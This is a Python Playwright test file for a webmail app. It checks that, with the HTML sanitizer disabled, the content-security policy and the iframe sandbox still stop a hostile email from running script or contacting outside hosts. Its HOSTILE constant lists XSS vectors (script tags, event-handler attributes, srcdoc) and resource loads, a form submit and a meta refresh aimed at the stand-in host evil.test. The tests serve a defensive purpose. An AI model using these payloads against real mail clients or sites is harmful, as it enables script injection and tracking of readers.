"""Two walls besides the sanitizer, each enough (R1): with it switched off, raw HTML still runs and fetches nothing.

The hostile letter leaves a trace in its own document, in the page around it, or at evil.test. The last test takes both
walls away and sees all of it, so that the others cannot pass for the wrong reason.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.flows.hands import sign_in
from tests.servers.application import Live
from tests.servers.people import Person
from tests.views.test_message import html_mail
from webmail import reading
from webmail.sanitize import safe
from webmail.sanitize.html import Cleaned

pytestmark = pytest.mark.browser

RAN = "top.document.documentElement.dataset.ran=1;document.documentElement.dataset.ran=1"
HOSTILE = f"""<script>{RAN}</script><img src="/nothing.png" onerror="{RAN}"><svg onload="{RAN}"></svg>
<details open ontoggle="{RAN}"><summary>x</summary></details><input autofocus onfocus="{RAN}">
<iframe srcdoc="<script>{RAN.replace("top.", "parent.")}</script>"></iframe>
<script src="https://evil.test/script.js"></script><script type="module">import "https://evil.test/module.js"</script>
<link rel="stylesheet" href="https://evil.test/sheet.css"><style>@import "https://evil.test/import.css";
@font-face {{ font-family: f; src: url(https://evil.test/font.woff) }} p {{ font-family: f }}</style>
<p style="background:url(https://evil.test/ground.png)">words</p><img src="https://evil.test/picture.png">
<picture><source srcset="https://evil.test/set.png"><img alt=""></picture>
<video src="https://evil.test/video.mp4" poster="https://evil.test/poster.png"></video>
<audio src="https://evil.test/audio.mp3" preload="auto"></audio><object data="https://evil.test/object.html"></object>
<embed src="https://evil.test/embed.html"><iframe src="https://evil.test/frame.html"></iframe>
<input type="image" src="https://evil.test/input.png"><table background="https://evil.test/table.png"><tr><td>x</table>
<form action="https://evil.test/form" id="f"></form><script>document.getElementById("f").submit()</script>
<meta http-equiv="refresh" content="1;url=https://evil.test/refresh"><p id="end">The end</p>"""


@pytest.fixture
def hostile(browser: Browser, live: Live, alice: Person, monkeypatch: pytest.MonkeyPatch) -> Any:
    """(context, address of the message, requests to elsewhere): alice has a hostile letter, and nobody cleans."""
    monkeypatch.setattr(reading, "clean", lambda html, **_: Cleaned(safe.seal(html), ()))
    uid = alice.append(html_mail(HOSTILE))
    context = browser.new_context(service_workers="block")
    asked: list[str] = []

    def only_ours(route: Route) -> None:
        if route.request.url.startswith(live.url):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    context.route("**/*", only_ours)
    sign_in(context.new_page(), live, alice)
    yield context, f"{live.url}/m/INBOX/{alice.uidvalidity()}.{uid}", asked
    context.close()


def without_header(context: BrowserContext) -> None:
    """The body's answer loses its policy on the way."""

    def strip(route: Route) -> None:
        answer = route.fetch()
        kept = {k: v for k, v in answer.headers.items() if k not in ("content-security-policy", "x-frame-options")}
        route.fulfill(response=answer, headers=kept)

    context.route(re.compile("/body"), strip)


def settled(page: Page) -> None:
    """What would happen has had its time: everything is loaded, and the refresh of one second is over."""
    page.wait_for_load_state("load")
    page.wait_for_timeout(1800)


def in_the_frame(page: Page) -> Callable[[str], Any]:
    page.frame_locator("iframe.body-frame").locator("#end").wait_for()
    return lambda script: page.frame_locator("iframe.body-frame").locator("html").evaluate(script)


def test_r1_in_the_message_page_it_runs_nothing_and_asks_nobody(hostile: Any) -> None:
    context, address, asked = hostile
    page = context.new_page()
    page.goto(address)
    ask = in_the_frame(page)
    settled(page)
    assert ask("html => html.dataset.ran") is None
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert asked == []
    assert page.url == address


def test_r1_on_its_own_page_the_answer_alone_is_wall_enough(hostile: Any) -> None:
    """No sandbox attribute here: the policy of the answer does it."""
    context, address, asked = hostile
    page = context.new_page()
    page.goto(address + "/body")
    page.locator("#end").wait_for()
    settled(page)
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert asked == []
    assert page.url == address + "/body"


def test_r1_without_its_policy_the_sandbox_of_the_frame_still_runs_nothing(hostile: Any) -> None:
    context, address, _ = hostile
    without_header(context)
    page = context.new_page()
    page.goto(address)
    ask = in_the_frame(page)
    settled(page)
    assert ask("html => html.dataset.ran") is None
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert page.url == address


def test_r1_the_printed_page_runs_nothing_and_asks_nobody(hostile: Any) -> None:
    context, address, asked = hostile
    page = context.new_page()
    page.goto(address + "/print")
    page.locator("#end").wait_for()
    settled(page)
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert asked == []


def test_the_letter_is_hostile_when_both_walls_are_gone(hostile: Any) -> None:
    context, address, asked = hostile
    without_header(context)
    page = context.new_page()
    with page.expect_request(re.compile("evil.test/(refresh|form)")):
        page.goto(address + "/body", wait_until="commit")
    names = {url.removeprefix("https://evil.test/").partition(".")[0] for url in asked}
    assert names >= {"script", "module", "sheet", "import", "picture", "ground", "poster", "frame", "object", "embed"}


def test_and_its_script_runs_when_both_walls_are_gone(hostile: Any) -> None:
    context, address, _ = hostile
    without_header(context)
    page = context.new_page()
    page.route("**/form", lambda route: route.abort())
    page.goto(address + "/body", wait_until="commit")
    page.wait_for_function("() => document.documentElement.dataset.ran === '1'")
